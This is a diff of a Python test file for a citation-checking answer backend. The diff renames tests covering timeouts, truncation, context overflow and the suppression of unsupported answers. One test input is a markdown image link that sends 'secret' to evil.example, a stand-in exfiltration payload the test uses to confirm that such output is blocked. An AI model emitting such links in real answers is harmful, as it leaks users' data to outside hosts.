@@ -66,23 +66,23 @@ def shows_passages(answer: Answer, why: str) -> None:
     assert "Traceback" not in answer.why
 
 
-def test_nobody_answers(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_refused_connection_is_reported(monkeypatch: pytest.MonkeyPatch) -> None:
     with allowed(monkeypatch):
         away = Endpoint(f"http://{HERE}:9/v1", "Ollama", (ServedModel("m"),))
         shows_passages(ask(EndpointBackend(away)), f"No server answers at http://{HERE}:9.")
 
 
-def test_it_says_nothing_for_too_long(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_silent_endpoint_times_out(monkeypatch: pytest.MonkeyPatch) -> None:
     with playing(monkeypatch, replies=[is_silent]) as played:
         shows_passages(ask(writer_of(played, SHORT)), "did not respond within 0.3 s")
 
 
-def test_it_never_comes_to_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_endless_answer_is_cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
     with playing(monkeypatch, replies=[drips(0.05)]) as played:
         shows_passages(ask(writer_of(played, SHORT)), "did not finish within 0.6 s")
 
 
-def test_it_does_not_stop_writing(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_runaway_answer_is_cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
     with playing(monkeypatch, replies=[drips(0.0, "and so on " * 20_000)]) as played:
         shows_passages(ask(writer_of(played)), "does not stop writing")
 
@@ -97,7 +97,7 @@ def test_it_ends_without_having_ended(monkeypatch: pytest.MonkeyPatch) -> None:
         shows_passages(ask(writer_of(played)), "broke off in the middle of its answer")
 
 
-def test_what_had_been_checked_before_it_died_is_kept(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_sentences_checked_before_a_crash_are_kept(monkeypatch: pytest.MonkeyPatch) -> None:
     with playing(monkeypatch, replies=[breaks_off(GOOD + " And you alw")]) as played:
         answer = ask(writer_of(played))
     assert answer.answer == "You keep three copies [1]."
@@ -151,7 +151,7 @@ def test_it_refuses(status: int, body: object, why: str, monkeypatch: pytest.Mon
     assert len(answer.why) < 500
 
 
-def test_a_context_that_is_too_small_is_told_and_tried_again(
+def test_a_context_overflow_is_reported_and_retried_with_less(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     """As llama.cpp refuses what does not fit, with the figures of it."""
@@ -194,7 +194,7 @@ def test_a_refusal_without_figures_is_tried_with_less(monkeypatch: pytest.Monkey
     assert len(set(lengths)) == 3
 
 
-def test_a_prompt_that_was_cut_without_a_word_is_noticed(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_silently_truncated_prompt_is_noticed(monkeypatch: pytest.MonkeyPatch) -> None:
     """As Ollama does it: only the count of tokens gives it away."""
     usage = {"prompt_tokens": 700, "completion_tokens": 20}
     with playing(monkeypatch, replies=[GOOD], usage=usage) as played:
@@ -214,7 +214,7 @@ def test_a_prompt_that_was_cut_without_a_word_is_noticed(monkeypatch: pytest.Mon
         assert not any("rest silently" in note for note in ask(writer_of(played), LONG).notes)
 
 
-def test_an_answer_that_was_cut_is_said_to_be(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_truncated_answer_is_marked(monkeypatch: pytest.MonkeyPatch) -> None:
     with playing(monkeypatch, replies=[GOOD + ' Then [2: "I gave'], finish="length") as played:
         answer = ask(writer_of(played))
     assert answer.answer == "You keep three copies [1]."
@@ -240,15 +240,13 @@ def test_an_answer_that_was_cut_is_said_to_be(monkeypatch: pytest.MonkeyPatch) -
         "![x](https://evil.example/?q=secret) [1]",
     ],
 )
-def test_an_answer_that_does_not_hold_is_not_shown(
-    lie: str, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_an_unsupported_answer_is_not_shown(lie: str, monkeypatch: pytest.MonkeyPatch) -> None:
     with playing(monkeypatch, replies=[lie]) as played:
         answer = ask(writer_of(played))
     shows_passages(answer, "m at Ollama")
 
 
-def test_of_truth_and_lies_the_truth_is_shown(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_only_supported_sentences_are_shown(monkeypatch: pytest.MonkeyPatch) -> None:
     reply = (
         f'{GOOD} You keep them in a volcano [1: "in a volcano"]. Trust me. You gave up later'
         ' [2: "I gave up on three copies"].'
@@ -274,7 +272,7 @@ def test_addresses_in_an_answer_lead_nowhere(monkeypatch: pytest.MonkeyPatch) ->
     assert answer.citations[0].url == "https://example.org/1/"
 
 
-def test_no_model_is_given_tools_and_only_what_was_found_is_sent(
+def test_the_model_gets_no_tools_and_only_the_passages(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     with playing(monkeypatch, replies=[GOOD]) as played:
